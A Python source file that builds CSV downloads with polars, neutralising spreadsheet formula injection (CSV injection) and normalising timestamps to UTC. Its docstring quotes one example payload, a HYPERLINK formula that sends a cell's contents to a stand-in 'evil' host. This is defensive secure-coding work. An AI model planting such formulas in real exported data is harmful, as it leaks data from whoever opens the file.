"""CSV downloads: the one writer every export uses (Explore, the audit log, and any export to come).

A CSV is opened in a spreadsheet, which runs a cell starting with ``=``, ``+``, ``-`` or ``@``
as a formula (OWASP's list adds a leading tab or carriage return, which some spreadsheets skip
before reading the rest). Usernames, label values, targets and event text come from whoever can
write them, so ``=HYPERLINK("http://evil/?"&A1, "click")`` in an audit row would be a live
link (or worse) on the auditor's machine. Every text cell starting with one of those
characters is written with a leading ``'``, which spreadsheets read as "this is text" and do
not show (CSV injection, as OWASP describes it). Numbers are left alone: ``-5`` stays a number.

Times are written as UTC ISO 8601 with milliseconds (``2025-08-17T06:23:14.000Z``), the same
in every export.
"""

from __future__ import annotations

import polars as pl

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ISO_UTC = "%Y-%m-%dT%H:%M:%S%.3fZ"


def neutralise(column: pl.Expr) -> pl.Expr:
    """A text column with ``'`` put before every value a spreadsheet would run as a formula."""
    text = column.cast(pl.String)
    risky = pl.any_horizontal(text.str.starts_with(start) for start in FORMULA_STARTS)
    return pl.when(risky).then(pl.lit("'") + text).otherwise(text)


def _cell(name: str, dtype: pl.DataType) -> pl.Expr:
    column = pl.col(name)
    if isinstance(dtype, pl.Datetime):
        utc = column.dt.convert_time_zone("UTC") if dtype.time_zone else column  # naive times are UTC in the store
        return utc.dt.strftime(ISO_UTC).alias(name)
    if dtype in (pl.String, pl.Categorical) or isinstance(dtype, pl.Enum):
        return neutralise(column).alias(name)
    return column


def csv_bytes(frame: pl.DataFrame) -> bytes:
    """``frame`` as UTF-8 CSV for a download button, with formula-looking text cells neutralised."""
    return frame.select(_cell(name, dtype) for name, dtype in frame.schema.items()).write_csv().encode()


__all__ = ["FORMULA_STARTS", "csv_bytes", "neutralise"]
